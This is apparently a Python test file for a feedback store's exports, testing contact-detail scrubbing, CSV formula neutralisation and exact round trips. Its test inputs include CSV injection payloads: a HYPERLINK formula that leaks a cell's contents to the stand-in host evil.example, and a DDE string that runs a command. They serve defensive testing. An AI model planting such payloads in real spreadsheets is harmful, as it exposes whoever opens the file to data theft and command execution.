"""Exports: contact details scrubbed from comments, spreadsheet formulas neutralised in CSV, round trips kept."""

from __future__ import annotations

import csv
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from genre.feedback import FeedbackEvent
from genre.feedback.pairwise import Arm, Judgement
from genre.feedback.store import FeedbackStore
from genre.feedback.store.hygiene import FORMULA_STARTS, neutralise_cell, restore_cell, scrub_contacts
from genre.feedback.store.transfer import csv_cell
from tests.feedback.test_store import T0

EMAILS = [
    ("mail me at john.doe@example.com please", "mail me at [email] please"),
    ("JOHN+films@Sub.Example.co.uk.", "[email]."),
    ("<a.b_c-d@mail-server.example.org>", "<[email]>"),
    ("write to jane [at] example [dot] org", "write to [email]"),
    ("or jane(at)example.com, thanks", "or [email], thanks"),
    ("two: x1@a.io;y2@b.de", "two: [email];[email]"),
]
PHONES = [
    ("call +44 20 7946 0958 today", "call [phone] today"),
    ("US: +1 (555) 123-4567.", "US: [phone]."),
    ("my number is (555) 123-4567", "my number is [phone]"),
    ("555.123.4567 or 555-123-4567", "[phone] or [phone]"),
    ("ring 07700 900123 anytime", "ring [phone] anytime"),
    ("5551234567 works too", "[phone] works too"),
    ("Berlin +49 30 1234567", "Berlin [phone]"),
    ("555 123 4567", "[phone]"),
]
UNCHANGED = [
    "seen on 2024-03-15, 15/03/2024 and 15.03.2024",
    "the 1994 film; remakes 1990-1999; years 1994 1995 1996",
    "price $1,299.99 or €12.50 or 1299 kr, 12 500 000 views",
    "item i100, B00X4WHP5E, N12345, movie 1234, rated 4/5 at 12:30",
    "in 2001 200 films; room 101 202 303; ISBN 978-3-16-148410-0",
    "version 1.2.3, score 3.5 out of 5, top-10, user@localhost",
]


@pytest.mark.parametrize(("text", "scrubbed"), EMAILS + PHONES)
def test_contacts_are_scrubbed_in_their_usual_forms(text, scrubbed):
    assert scrub_contacts(text) == scrubbed


@pytest.mark.parametrize("text", UNCHANGED)
def test_dates_years_prices_and_ids_are_left_alone(text):
    assert scrub_contacts(text) == text


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "''"])
def test_formula_starts_get_one_quote_and_restoring_removes_exactly_it(text):
    assert neutralise_cell(text) == "'" + text and restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize("text", ["plain", "", " =not first", "1-2", "a'b"])
def test_other_cells_are_unchanged(text):
    assert neutralise_cell(text) == text and restore_cell(neutralise_cell(text)) == text


@given(st.text())
def test_neutralising_is_undone_exactly_and_leaves_no_formula_start(text):
    cell = neutralise_cell(text)
    assert restore_cell(cell) == text and not cell.startswith(FORMULA_STARTS)


@given(st.text(alphabet=st.sampled_from("ab1234567890 +-.()@[]x.comat"), max_size=60))
def test_scrubbing_twice_changes_nothing_more(text):
    once = scrub_contacts(text)
    assert scrub_contacts(once) == once


def test_numbers_stay_numbers():
    assert csv_cell(-1.5, numeric=True) == "-1.5" and csv_cell(-3, numeric=True) == "-3"
    assert csv_cell("-1.5") == "'-1.5" and csv_cell(None) == ""
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTab", "'kept"]


def _hostile_events(store) -> list[FeedbackEvent]:
    return store.add_events(
        [
            FeedbackEvent(user="ann", item_id=f"i{n}", kind="rating", value=4, comment=c, created_at=T0)
            for n, c in enumerate(HOSTILE)
        ]
        + [FeedbackEvent(user="ann", item_id="-5", kind="like", config_name="=cfg", created_at=T0)]
    )


def test_csv_export_neutralises_formulas_and_imports_back_exactly(store_url, other_url, tmp_path):
    with FeedbackStore(store_url) as store:
        original = _hostile_events(store)
        first = tmp_path / "first.csv"
        store.export_csv(first)
    rows = list(csv.DictReader(first.open(encoding="utf-8", newline="")))
    comments = [r["comment"] for r in rows[: len(HOSTILE)]]
    assert comments == ["'" + c for c in HOSTILE]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    assert (rows[-1]["item_id"], rows[-1]["config_name"]) == ("'-5", "'=cfg")
    assert rows[0]["value"] == "4.0" and rows[0]["id"] == str(original[0].id)  # numeric columns as numbers
    with FeedbackStore(other_url) as other:
        assert other.import_file(first) == len(original)
        assert other.events() == original  # text as typed, the quotes gone
        second = tmp_path / "second.csv"
        other.export_csv(second)
        assert second.read_bytes() == first.read_bytes()


def test_every_export_scrubs_comments_and_reimporting_it_adds_nothing(store_url, tmp_path):
    typed = "great film! reach me at ann.smith@example.com or +1 (555) 123-4567, seen 2024-03-15 for $12.50"
    clean = "great film! reach me at [email] or [phone], seen 2024-03-15 for $12.50"
    with FeedbackStore(store_url) as store:
        store.add_event("ann", "a", "rating", 5, comment=typed)
        tuned, template = Arm(generator="tuned-local", config_name="m"), Arm(generator="template", config_name="m")
        store.save_judgement(
            Judgement.from_screen(
                reviewer="Ann", item_id="a", left_arm=tuned, right_arm=template, left_reason="l",
                right_reason="r", pick="left", comment=typed, created_at=T0,
            )
        )  # fmt: skip
        for fmt in ("csv", "jsonl"):
            store.export_events(tmp_path / f"events.{fmt}", fmt)
            store.export_judgements(tmp_path / f"judgements.{fmt}", fmt)
        assert next(csv.DictReader((tmp_path / "events.csv").open()))["comment"] == clean
        assert json.loads((tmp_path / "events.jsonl").read_text())["comment"] == clean
        assert next(csv.DictReader((tmp_path / "judgements.csv").open()))["comment"] == clean
        assert json.loads((tmp_path / "judgements.jsonl").read_text())["comment"] == clean
        for path in tmp_path.glob("*.*"):
            assert "example.com" not in path.read_text() and "123-4567" not in path.read_text()
        # the store keeps what was typed; a scrubbed export of it is not a conflict with it
        assert store.events()[0].comment == typed and store.judgements()[0].comment == typed
        assert store.import_file(tmp_path / "events.csv") == 0 and store.import_file(tmp_path / "events.jsonl") == 0
        store.export_csv(tmp_path / "private.csv", scrub=False)
        assert next(csv.DictReader((tmp_path / "private.csv").open()))["comment"] == typed
